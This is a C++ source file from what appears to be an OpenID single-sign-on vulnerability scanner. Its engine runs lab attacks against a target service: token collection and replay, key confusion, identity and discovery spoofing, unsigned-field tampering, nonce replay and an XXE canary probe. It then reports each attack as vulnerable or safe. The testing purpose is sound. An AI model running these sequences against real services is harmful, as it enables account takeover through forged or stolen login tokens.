#include "ssoprobe/attack/engine.hpp"

#include <algorithm>
#include <cctype>
#include <chrono>

#include "ssoprobe/discovery/discovery.hpp"
#include "ssoprobe/net/user_agent.hpp"
#include "ssoprobe/openid/nonce.hpp"
#include "ssoprobe/openid/url.hpp"

namespace ssoprobe::attack {
namespace {

using idp::MutationKind;
using idp::MutationStage;
using idp::Phase;
using idp::Direction;
using Json = nlohmann::ordered_json;

Json parse_verdict(const net::HttpResponse& response) {
  try {
    auto j = Json::parse(response.body);
    if (j.is_object() && j.contains("outcome")) return j;
  } catch (const Json::exception&) {
  }
  return nullptr;
}

std::optional<std::string> query_field(const std::string& url, std::string_view name) {
  const auto parsed = openid::parse_url(url);
  if (!parsed) return std::nullopt;
  return openid::decode_indirect(parsed->query).field(name);
}

bool logged(const std::vector<idp::MessageLogEntry>& log, Phase phase, Direction direction) {
  return std::any_of(log.begin(), log.end(), [&](const idp::MessageLogEntry& e) {
    return e.phase == phase && e.direction == direction;
  });
}

std::optional<std::string> association_handle(const std::vector<idp::MessageLogEntry>& log) {
  for (const auto& e : log)
    if (e.phase == Phase::association && e.direction == Direction::outbound)
      if (auto h = e.message.field("assoc_handle")) return h;
  return std::nullopt;
}

std::string name_of(const std::string& identity_url) {
  return identity_url.substr(identity_url.rfind('/') + 1);
}

// Replaces raw URLs with role labels so evidence is stable and readable.
class Labels {
 public:
  void add(std::string raw, std::string label) {
    if (raw.empty()) return;
    pairs_.emplace_back(std::move(raw), std::move(label));
    std::stable_sort(pairs_.begin(), pairs_.end(), [](const auto& a, const auto& b) {
      return a.first.size() > b.first.size();
    });
  }

  /// `prefix` followed by digits, e.g. numbered attacker identities.
  void add_numbered(std::string prefix, std::string label) {
    numbered_.emplace_back(std::move(prefix), std::move(label));
  }

  std::string apply(std::string text) const {
    for (const auto& [prefix, label] : numbered_) {
      for (auto pos = text.find(prefix); pos != std::string::npos; pos = text.find(prefix, pos + label.size())) {
        auto end = pos + prefix.size();
        while (end < text.size() && std::isdigit(static_cast<unsigned char>(text[end]))) ++end;
        text.replace(pos, end - pos, label);
      }
    }
    for (const auto& [raw, label] : pairs_) {
      for (auto pos = text.find(raw); pos != std::string::npos; pos = text.find(raw, pos + label.size()))
        text.replace(pos, raw.size(), label);
    }
    return text;
  }

  Json apply(const Json& j) const {
    if (j.is_string()) return apply(j.get<std::string>());
    if (j.is_array() || j.is_object()) {
      Json out = j;
      for (auto& v : out) v = apply(v);
      return out;
    }
    return j;
  }

 private:
  std::vector<std::pair<std::string, std::string>> pairs_;
  std::vector<std::pair<std::string, std::string>> numbered_;
};

// Closing step label for a login that did not reach the victim account.
std::string miss_label(const Json& verdict) {
  if (verdict.is_null()) return "failed";
  return verdict.value("outcome", "") == "LOGGED_IN" ? "logged_in_other_account" : "rejected";
}

std::string describe(const Json& verdict, const net::HttpResponse& response, const Labels& labels) {
  if (verdict.is_null()) return "HTTP " + std::to_string(response.status);
  if (verdict.value("outcome", "") == "LOGGED_IN")
    return "LOGGED_IN as " + labels.apply(verdict.value("account", ""));
  return "REJECTED(" + verdict.value("reason", "") + ")";
}

std::function<bool(const std::string&)> stop_at(std::string prefix) {
  return [prefix = std::move(prefix)](const std::string& url) { return url.starts_with(prefix); };
}

}  // namespace

struct Engine::Context {
  AttackResult result;
  TemplateVars vars;
  Labels labels;
  std::string victim;  // claimed identifier of the victim
  std::string victim_op;

  void step(std::string label, std::string detail = {}) {
    result.evidence.trace.push_back({std::move(label), labels.apply(std::move(detail))});
  }
  void note(std::string text) { result.evidence.observations.push_back(labels.apply(std::move(text))); }
  void verdict(const Json& v) { result.evidence.sp_verdict = labels.apply(v); }
  AttackResult& finish(Outcome o) {
    result.verdict = o;
    return result;
  }
};

Engine::Engine(Lab& lab, EngineOptions options) : lab_(lab), options_(std::move(options)) {}

Engine::Context Engine::begin(const AttackProfile& profile) {
  Context ctx;
  ctx.result.profile = profile.name;
  ctx.result.attack_class = profile.attack_class;
  const auto& target = lab_.target();
  ctx.vars["victim_id"] = lab_.victim_identity();
  ctx.victim = expand(profile.victim_identity, ctx.vars);
  ctx.vars["victim_id"] = ctx.victim;
  ctx.victim_op = discovery::discover(ctx.victim, lab_.transport()).op_endpoint;
  ctx.vars["victim_op"] = ctx.victim_op;
  ctx.vars["collector_url"] = lab_.collector().base_url();
  ctx.vars["canary_url"] = lab_.canary().url();
  ctx.vars["forged_nonce"] = openid::make_nonce(lab_.clock()(), "forged");

  ctx.labels.add(ctx.victim, "URL.ID_V");
  ctx.labels.add(ctx.victim_op, "URL.IdP_V");
  ctx.labels.add(lab_.honest_identity(), "URL.ID_H");
  ctx.labels.add_numbered(lab_.attacker().identity_url("mallory-"), "URL.ID_A");
  ctx.labels.add_numbered(lab_.attacker().endpoint_url("mallory-"), "URL.IdP_A");
  ctx.labels.add(lab_.attacker().base_url(), "URL.IdP_A");
  ctx.labels.add(lab_.trusted().base_url(), "URL.IdP_V");
  ctx.labels.add(lab_.canary().url(), "URL.CANARY");
  ctx.labels.add(lab_.collector().base_url(), "URL.A");
  ctx.labels.add(target.base_url, "URL.SP");
  return ctx;
}

bool Engine::honest_login(std::string* reason) {
  net::UserAgent ua(lab_.transport());
  try {
    ua.get(lab_.trusted().base_url() + "/login?user=" + Lab::kHonest);
    const auto r = ua.post(lab_.target().login_url(), {{"openid_identifier", lab_.honest_identity()}});
    const auto res = ua.get(lab_.target().resource_url());
    if (res.response.status == 200) {
      const auto account = Json::parse(res.response.body).value("account", "");
      if (account == openid::normalize_identifier(lab_.honest_identity())) return true;
    }
    if (reason) {
      const auto v = parse_verdict(r.response);
      *reason = v.is_null() ? "HTTP " + std::to_string(r.response.status)
                            : "REJECTED(" + v.value("reason", "") + ")";
    }
  } catch (const std::exception& e) {
    if (reason) *reason = e.what();
  }
  return false;
}

NormalFlow Engine::analyze() {
  lab_.trusted().drain_log();
  NormalFlow flow;
  flow.login_url = lab_.target().login_url();
  net::UserAgent ua(lab_.transport());
  net::UserAgent::Result r;
  try {
    ua.get(lab_.trusted().base_url() + "/login?user=" + Lab::kHonest);
    r = ua.post(flow.login_url, {{"openid_identifier", lab_.honest_identity()}});
  } catch (const net::TransportError& e) {
    throw TargetNotConformant("login_request", e.what());
  }
  const auto log = lab_.trusted().drain_log();
  const auto request = std::find_if(log.begin(), log.end(), [](const idp::MessageLogEntry& e) {
    return e.phase == Phase::token && e.direction == Direction::inbound;
  });
  if (request == log.end())
    throw TargetNotConformant("authentication_request",
                              "no authentication request reached the IdP (HTTP " +
                                  std::to_string(r.response.status) + ")");

  std::optional<std::string> account;
  try {
    const auto res = ua.get(lab_.target().resource_url());
    if (res.response.status == 200) account = Json::parse(res.response.body).value("account", "");
  } catch (const std::exception& e) {
    throw TargetNotConformant("protected_resource", e.what());
  }
  if (account != openid::normalize_identifier(lab_.honest_identity())) {
    const auto v = parse_verdict(r.response);
    throw TargetNotConformant("token_verification",
                              v.is_null() ? "HTTP " + std::to_string(r.response.status)
                                          : "REJECTED(" + v.value("reason", "") + ")");
  }

  int discoveries = 0;
  for (const auto& e : log) {
    FlowMessage m;
    m.phase = std::string(idp::to_string(e.phase));
    m.direction = std::string(idp::to_string(e.direction));
    for (const auto& [k, _] : e.message.params())
      m.params.push_back(k.starts_with("openid.") ? k.substr(7) : k);
    flow.messages.push_back(std::move(m));
    if (e.phase == Phase::discovery && e.direction == Direction::inbound) ++discoveries;
    if (e.phase == Phase::association && e.direction == Direction::outbound && !flow.assoc_type)
      flow.assoc_type = e.message.field("assoc_type");
    if (e.phase == Phase::check_auth) flow.direct_verification = true;
  }
  flow.rediscovery = discoveries > 1;
  const auto return_to = request->message.field("return_to").value_or("");
  const auto parsed = openid::parse_url(return_to);
  flow.callback_url = parsed ? parsed->without_query() : lab_.target().callback_url();
  // An association made by an earlier login is reused without a new exchange.
  if (!flow.assoc_type && !flow.direct_verification) {
    if (const auto h = request->message.field("assoc_handle"))
      if (const auto a = lab_.trusted().associations().find(*h))
        flow.assoc_type = std::string(openid::to_string(a->assoc_type));
  }
  return flow;
}

AttackResult Engine::run_trc(const NormalFlow& flow, const AttackProfile& profile) {
  auto ctx = begin(profile);
  const auto collector = lab_.collector().base_url();

  // Detection: a self-issued token addressed to a foreign return_to.
  const auto attacker_id = lab_.fresh_attacker_identity();
  lab_.attacker().set_mutations(expand(profile.mutations, ctx.vars));
  net::UserAgent attacker(lab_.transport());
  const auto minted = attacker.post(lab_.target().login_url(), {{"openid_identifier", attacker_id}},
                                    stop_at(collector));
  lab_.attacker().set_mutations({});
  if (!minted.held) {
    ctx.note("detection: IdP redirect to the foreign return_to was not observed");
    return ctx.finish(Outcome::inconclusive);
  }
  const auto query = openid::parse_url(*minted.held)->query;
  const auto probe = attacker.get(flow.callback_url + "?" + query);
  const auto probe_verdict = parse_verdict(probe.response);
  ctx.note("detection: self-token for URL.A submitted to URL.SP: " +
           describe(probe_verdict, probe.response, ctx.labels));
  if (probe_verdict.value("outcome", "") != "LOGGED_IN") {
    ctx.verdict(probe_verdict);
    return ctx.finish(Outcome::safe);
  }

  // Exploit: the victim's browser visits URL.A, which collects a token
  // minted for URL.A by the victim's IdP; the attacker replays it.
  lab_.trusted().drain_log();
  lab_.collector().set_victim(ctx.victim);
  net::UserAgent victim(lab_.transport());
  victim.get(lab_.trusted().base_url() + "/login?user=" + name_of(ctx.victim));
  victim.get(collector + "/lure");
  ctx.step("lure_visited", "URL.A");
  const auto tlog = lab_.trusted().drain_log();
  if (logged(tlog, Phase::token, Direction::inbound))
    ctx.step("auth_request_redirect(victim_idp)", "URL.IdP_V");
  if (logged(tlog, Phase::token, Direction::outbound)) ctx.step("token_issued", "URL.ID_V");
  const auto token = lab_.collector().take();
  if (!token) {
    ctx.note("exploit: no token reached URL.A");
    return ctx.finish(Outcome::inconclusive);
  }
  ctx.step("token_collected", "URL.A");
  net::UserAgent replayer(lab_.transport());
  const auto replay = replayer.get(flow.callback_url + "?" + openid::parse_url(*token)->query);
  const auto v = parse_verdict(replay.response);
  ctx.verdict(v);
  ctx.step("token_replayed", "URL.SP: " + describe(v, replay.response, ctx.labels));
  const auto res = replayer.get(lab_.target().resource_url());
  if (res.response.status == 200 &&
      Json::parse(res.response.body).value("account", "") == openid::normalize_identifier(ctx.victim))
    return ctx.finish(Outcome::vulnerable);
  ctx.note("exploit: attacker session did not reach the victim account");
  return ctx.finish(Outcome::inconclusive);
}

namespace {

bool has_victim_account(net::UserAgent& ua, const std::string& resource_url,
                        const std::string& victim) {
  const auto r = ua.get(resource_url);
  if (r.response.status != 200) return false;
  try {
    return Json::parse(r.response.body).value("account", "") ==
           openid::normalize_identifier(victim);
  } catch (const Json::exception&) {
    return false;
  }
}

}  // namespace

AttackResult Engine::run_kc(const NormalFlow& flow, int strategy, const AttackProfile& profile) {
  (void)flow;
  if (strategy != 1 && strategy != 2) throw std::invalid_argument("key confusion strategy must be 1 or 2");
  auto ctx = begin(profile);
  const auto& target = lab_.target();
  auto outcome_step = [&](net::UserAgent& ua, const Json& v, const net::HttpResponse& resp) {
    ctx.verdict(v);
    if (has_victim_account(ua, target.resource_url(), ctx.victim)) {
      ctx.step("logged_in_as_victim", "URL.ID_V");
      return true;
    }
    ctx.step(miss_label(v), describe(v, resp, ctx.labels));
    return false;
  };

  if (strategy == 1) {
    // The victim IdP's handle shows up in the authentication request.
    net::UserAgent decoy(lab_.transport());
    const auto held = decoy.post(target.login_url(), {{"openid_identifier", ctx.victim}},
                                 stop_at(ctx.victim_op));
    ctx.step("decoy_login", "URL.ID_V");
    const auto alpha = held.held ? query_field(*held.held, "assoc_handle") : std::nullopt;
    if (!alpha) {
      ctx.note("target sends no association handle to the victim IdP");
      return ctx.finish(Outcome::inconclusive);
    }
    ctx.vars["alpha"] = *alpha;
    ctx.labels.add(*alpha, "α");
    ctx.step("alpha_learned", "α");

    const auto attacker_id = lab_.fresh_attacker_identity();
    lab_.attacker().drain_log();
    lab_.attacker().set_mutations(expand(profile.mutations, ctx.vars));
    net::UserAgent ua(lab_.transport());
    ctx.step("login_request(attacker_id)", "URL.ID_A");
    const auto r = ua.post(target.login_url(), {{"openid_identifier", attacker_id}});
    const auto alog = lab_.attacker().drain_log();
    const auto handle = association_handle(alog);
    if (!handle) {
      ctx.note("target did not associate with the attacker IdP");
      return ctx.finish(Outcome::inconclusive);
    }
    ctx.step("association(alpha)", *handle == *alpha ? "α" : "other handle");
    if (logged(alog, Phase::token, Direction::outbound)) ctx.step("forged_token_issued", "URL.ID_V");
    ctx.step("token_delivered", "URL.SP");
    return ctx.finish(outcome_step(ua, parse_verdict(r.response), r.response) ? Outcome::vulnerable
                                                                             : Outcome::safe);
  }

  const auto mutations = expand(profile.mutations, ctx.vars);
  // Plain form: the forged token goes straight to the target.
  {
    const auto attacker_id = lab_.fresh_attacker_identity();
    lab_.attacker().drain_log();
    lab_.attacker().set_mutations(mutations);
    net::UserAgent ua(lab_.transport());
    const auto r = ua.post(target.login_url(), {{"openid_identifier", attacker_id}});
    const auto alog = lab_.attacker().drain_log();
    const auto beta = association_handle(alog);
    if (!beta) {
      ctx.note("target did not associate with the attacker IdP");
      return ctx.finish(Outcome::inconclusive);
    }
    const auto v = parse_verdict(r.response);
    if (has_victim_account(ua, target.resource_url(), ctx.victim)) {
      ctx.step("login_request(attacker_id)", "URL.ID_A");
      ctx.step("association(beta)", "β");
      ctx.step("forged_token_issued", "URL.ID_V, URL.IdP_V, β");
      ctx.step("token_delivered", "URL.SP");
      ctx.step("logged_in_as_victim", "URL.ID_V");
      ctx.verdict(v);
      return ctx.finish(Outcome::vulnerable);
    }
    ctx.note("plain form: " + describe(v, r.response, ctx.labels));
  }

  // Interleaved double login: hold the forged token, log in again with the
  // victim identity in the same session, then deliver the held token.
  const auto attacker_id = lab_.fresh_attacker_identity();
  lab_.attacker().drain_log();
  lab_.trusted().drain_log();
  lab_.attacker().set_mutations(mutations);
  net::UserAgent ua(lab_.transport());
  ctx.step("login_request(attacker_id)", "URL.ID_A");
  const auto first = ua.post(target.login_url(), {{"openid_identifier", attacker_id}},
                             stop_at(flow.callback_url));
  const auto alog = lab_.attacker().drain_log();
  if (logged(alog, Phase::discovery, Direction::inbound)) ctx.step("discovery_request", "URL.ID_A");
  if (logged(alog, Phase::discovery, Direction::outbound))
    ctx.step("discovery_response", "URL.IdP_A");
  const auto beta = association_handle(alog);
  if (!beta) {
    ctx.note("target did not associate with the attacker IdP");
    return ctx.finish(Outcome::inconclusive);
  }
  ctx.labels.add(*beta, "β");
  ctx.step("association(beta)", "β");
  if (logged(alog, Phase::token, Direction::inbound))
    ctx.step("auth_request_redirect(attacker_idp)", "URL.IdP_A");
  if (logged(alog, Phase::token, Direction::outbound))
    ctx.step("forged_token_issued", "URL.ID_V, URL.IdP_V, β");
  if (!first.held) {
    ctx.note("forged token did not head for the target callback");
    return ctx.finish(Outcome::inconclusive);
  }
  ctx.step("token_delayed");

  ctx.step("login_request(victim_id)", "URL.ID_V");
  const auto second = ua.post(target.login_url(), {{"openid_identifier", ctx.victim}},
                              stop_at(ctx.victim_op));
  const auto tlog = lab_.trusted().drain_log();
  if (logged(tlog, Phase::discovery, Direction::inbound))
    ctx.step("discovery_request(victim_id)", "URL.ID_V");
  if (logged(tlog, Phase::discovery, Direction::outbound))
    ctx.step("discovery_response(victim_idp)", "URL.IdP_V");
  if (second.held) {
    if (const auto alpha = query_field(*second.held, "assoc_handle")) {
      ctx.labels.add(*alpha, "α");
      ctx.step("association(alpha)",
               logged(tlog, Phase::association, Direction::outbound) ? "α new" : "α reused");
    }
    ctx.step("auth_request_redirect(victim_idp)", "URL.IdP_V");
  }
  const auto delivered = ua.get(*first.held);
  ctx.step("token_delivered", "URL.SP");
  return ctx.finish(outcome_step(ua, parse_verdict(delivered.response), delivered.response)
                        ? Outcome::vulnerable
                        : Outcome::safe);
}

AttackResult Engine::run_ids(const NormalFlow& flow, const AttackProfile& profile) {
  (void)flow;
  auto ctx = begin(profile);
  const auto attacker_id = lab_.fresh_attacker_identity();
  lab_.attacker().set_mutations(expand(profile.mutations, ctx.vars));
  net::UserAgent ua(lab_.transport());
  ctx.step("login_request(attacker_id)", "URL.ID_A");
  const auto r = ua.post(lab_.target().login_url(), {{"openid_identifier", attacker_id}});
  const auto v = parse_verdict(r.response);
  ctx.step("foreign_identity_asserted", "URL.ID_V by URL.IdP_A");
  ctx.verdict(v);
  if (has_victim_account(ua, lab_.target().resource_url(), ctx.victim)) {
    ctx.step("logged_in_as_victim", "URL.ID_V");
    return ctx.finish(Outcome::vulnerable);
  }
  ctx.step(miss_label(v), describe(v, r.response, ctx.labels));
  return ctx.finish(Outcome::safe);
}

AttackResult Engine::run_ds(const NormalFlow& flow, const AttackProfile& profile) {
  (void)flow;
  auto ctx = begin(profile);
  const auto attacker_id = lab_.fresh_attacker_identity();
  lab_.attacker().drain_log();
  lab_.attacker().set_mutations(expand(profile.mutations, ctx.vars));
  net::UserAgent ua(lab_.transport());
  ctx.step("login_request(attacker_id)", "URL.ID_A");
  const auto r = ua.post(lab_.target().login_url(), {{"openid_identifier", attacker_id}});
  const auto alog = lab_.attacker().drain_log();
  int discoveries = 0;
  for (const auto& e : alog) discoveries += e.phase == Phase::discovery && e.direction == Direction::outbound;
  ctx.step("spoofed_discovery", "local id URL.ID_V, served " + std::to_string(discoveries) + "x");
  if (logged(alog, Phase::check_auth, Direction::inbound))
    ctx.step("check_authentication", "answered by URL.IdP_A");
  const auto v = parse_verdict(r.response);
  ctx.verdict(v);
  if (has_victim_account(ua, lab_.target().resource_url(), ctx.victim)) {
    ctx.step("logged_in_as_victim", "URL.ID_V");
    return ctx.finish(Outcome::vulnerable);
  }
  ctx.step(miss_label(v), describe(v, r.response, ctx.labels));
  return ctx.finish(Outcome::safe);
}

AttackResult Engine::run_unsigned(const NormalFlow& flow, const AttackProfile& profile) {
  (void)flow;
  auto ctx = begin(profile);
  const auto mutations = expand(profile.mutations, ctx.vars);

  // One run per field, mutations grouped by the field they touch.
  std::vector<std::pair<std::string, idp::MutationList>> groups;
  for (const auto& m : mutations) {
    auto it = std::find_if(groups.begin(), groups.end(),
                           [&](const auto& g) { return g.first == m.field; });
    if (it == groups.end()) {
      groups.push_back({m.field, {}});
      it = std::prev(groups.end());
    }
    it->second.push_back(m);
  }

  auto attempt = [&](const idp::MutationList& list, Json* verdict) {
    const auto attacker_id = lab_.fresh_attacker_identity();
    lab_.attacker().set_mutations(list);
    net::UserAgent ua(lab_.transport());
    const auto r = ua.post(lab_.target().login_url(), {{"openid_identifier", attacker_id}});
    const auto v = parse_verdict(r.response);
    if (verdict) *verdict = v;
    const bool victim = has_victim_account(ua, lab_.target().resource_url(), ctx.victim);
    return std::make_pair(victim, describe(v, r.response, ctx.labels));
  };

  bool vulnerable = false;
  for (const auto& [field, list] : groups) {
    Json v;
    const auto [victim, text] = attempt(list, &v);
    ctx.step("unsigned(" + field + ")", text);
    if (victim && !vulnerable) {
      vulnerable = true;
      ctx.verdict(v);
    }
  }
  // Sanity control: a field that stays signed must not survive tampering.
  const auto [control_victim, control_text] = attempt(
      {{MutationKind::set_field, "claimed_id", ctx.victim, MutationStage::post_sign}}, nullptr);
  ctx.step("control(signed claimed_id)", control_text);
  if (control_victim) ctx.note("control: tampered signed field was accepted");
  return ctx.finish(vulnerable ? Outcome::vulnerable : Outcome::safe);
}

AttackResult Engine::run_replay(const NormalFlow& flow, const AttackProfile& profile) {
  auto ctx = begin(profile);
  const auto& target = lab_.target();

  net::UserAgent victim(lab_.transport());
  victim.get(lab_.trusted().base_url() + "/login?user=" + name_of(ctx.victim));
  const auto held = victim.post(target.login_url(), {{"openid_identifier", ctx.victim}},
                                stop_at(flow.callback_url));
  if (!held.held) {
    ctx.note("no honest token for the victim was issued");
    return ctx.finish(Outcome::inconclusive);
  }
  ctx.step("honest_token_issued", "URL.ID_V");
  const auto first = victim.get(*held.held);
  ctx.step("token_delivered(victim)", describe(parse_verdict(first.response), first.response, ctx.labels));
  if (!has_victim_account(victim, target.resource_url(), ctx.victim)) {
    ctx.note("victim's own delivery was not accepted");
    return ctx.finish(Outcome::inconclusive);
  }

  net::UserAgent attacker(lab_.transport());
  const auto second = attacker.get(*held.held);
  const auto v = parse_verdict(second.response);
  ctx.verdict(v);
  ctx.step("token_replayed(attacker)", describe(v, second.response, ctx.labels));
  const bool vulnerable = has_victim_account(attacker, target.resource_url(), ctx.victim);

  // Acceptance window: the attacker's own tokens with back-dated nonces.
  std::optional<std::string> widest;
  for (const auto& [name, offset] : options_.replay_offsets) {
    const auto attacker_id = lab_.fresh_attacker_identity();
    const auto nonce = openid::make_nonce(lab_.clock()() - offset, "probe");
    lab_.attacker().set_mutations({{MutationKind::set_field, "response_nonce", nonce}});
    net::UserAgent ua(lab_.transport());
    const auto r = ua.post(target.login_url(), {{"openid_identifier", attacker_id}});
    const auto pv = parse_verdict(r.response);
    const auto text = describe(pv, r.response, ctx.labels);
    ctx.note("back-dated " + name + ": " + text);
    if (pv.value("outcome", "") == "LOGGED_IN") widest = name;
  }
  lab_.attacker().set_mutations({});
  ctx.note(widest ? "acceptance window reaches at least " + *widest
                  : "every back-dated probe was rejected");
  return ctx.finish(vulnerable ? Outcome::vulnerable : Outcome::safe);
}

AttackResult Engine::run_xxe_probe(const AttackProfile& profile) {
  auto ctx = begin(profile);
  const auto attacker_id = lab_.fresh_attacker_identity();
  const auto mutations = expand(profile.mutations, ctx.vars);

  // Validate the document before serving it.
  const auto endpoint = lab_.attacker().endpoint_url(name_of(attacker_id));
  for (const auto& m : mutations) {
    if (m.kind != MutationKind::xxe_payload) continue;
    const std::string raw = m.field.empty() ? discovery::render_xxe_probe(endpoint, m.value).raw : m.field;
    try {
      const auto doc = discovery::parse_xrds_safe(raw, discovery::XxeMode::flag);
      if (!doc.xxe_attempt) {
        ctx.note("probe declares no external entity");
        return ctx.finish(Outcome::inconclusive);
      }
    } catch (const std::exception& e) {
      ctx.note(std::string("malformed probe: ") + e.what());
      return ctx.finish(Outcome::inconclusive);
    }
  }

  lab_.canary().reset();
  lab_.attacker().set_mutations(mutations);
  net::UserAgent ua(lab_.transport());
  ctx.step("login_request(attacker_id)", "URL.ID_A");
  const auto r = ua.post(lab_.target().login_url(), {{"openid_identifier", attacker_id}},
                         [](const std::string&) { return true; });
  ctx.step("discovery_document", "XRDS with external entity -> URL.CANARY");
  const int hits = lab_.canary().hits();
  const bool reflected = r.response.body.find(lab_.canary().marker()) != std::string::npos;
  ctx.step("canary_hits", std::to_string(hits));
  if (reflected) ctx.note("canary content reflected in the target response");
  const auto v = parse_verdict(r.response);
  if (!v.is_null()) ctx.verdict(v);
  return ctx.finish(hits > 0 || reflected ? Outcome::vulnerable : Outcome::safe);
}

AttackResult Engine::run(const NormalFlow& flow, AttackClass attack_class) {
  for (const auto& p : builtin_profiles())
    if (p.attack_class == attack_class) return dispatch(flow, p);
  throw std::invalid_argument("no built-in profile");
}

AttackResult Engine::dispatch(const NormalFlow& flow, const AttackProfile& profile) {
  switch (profile.attack_class) {
    case AttackClass::trc: return run_trc(flow, profile);
    case AttackClass::kc1: return run_kc(flow, 1, profile);
    case AttackClass::kc2: return run_kc(flow, 2, profile);
    case AttackClass::ids: return run_ids(flow, profile);
    case AttackClass::ds: return run_ds(flow, profile);
    case AttackClass::unsigned_params: return run_unsigned(flow, profile);
    case AttackClass::replay: return run_replay(flow, profile);
    case AttackClass::xxe: return run_xxe_probe(profile);
  }
  throw std::invalid_argument("unknown attack class");
}

AttackResult Engine::run_profile(const NormalFlow& flow, const AttackProfile& profile) {
  const auto started = std::chrono::steady_clock::now();
  AttackResult result;
  lab_.reset();
  std::string why;
  if (!honest_login(&why)) {
    result.profile = profile.name;
    result.attack_class = profile.attack_class;
    result.evidence.observations.push_back("honest login failed before the attack: " + why);
  } else {
    try {
      result = dispatch(flow, profile);
    } catch (const std::exception& e) {
      result = {};
      result.profile = profile.name;
      result.attack_class = profile.attack_class;
      result.evidence.observations.push_back(std::string("aborted: ") + e.what());
    }
  }
  lab_.attacker().set_mutations({});
  result.duration = std::chrono::duration_cast<std::chrono::milliseconds>(
      std::chrono::steady_clock::now() - started);
  return result;
}

SecurityReport Engine::run_all(const std::vector<AttackProfile>& profiles) {
  const auto started = std::chrono::steady_clock::now();
  SecurityReport report;
  report.generated_at = openid::format_utc(openid::system_clock()());
  report.tool_version = options_.tool_version;
  report.target = lab_.target().description;
  lab_.reset();
  try {
    report.normal_flow = analyze();
    for (const auto& p : profiles) report.results.push_back(run_profile(*report.normal_flow, p));
  } catch (const TargetNotConformant& e) {
    report.error = std::string("target not conformant at ") + e.what();
  }
  report.total_duration = std::chrono::duration_cast<std::chrono::milliseconds>(
      std::chrono::steady_clock::now() - started);
  return report;
}

}  // namespace ssoprobe::attack
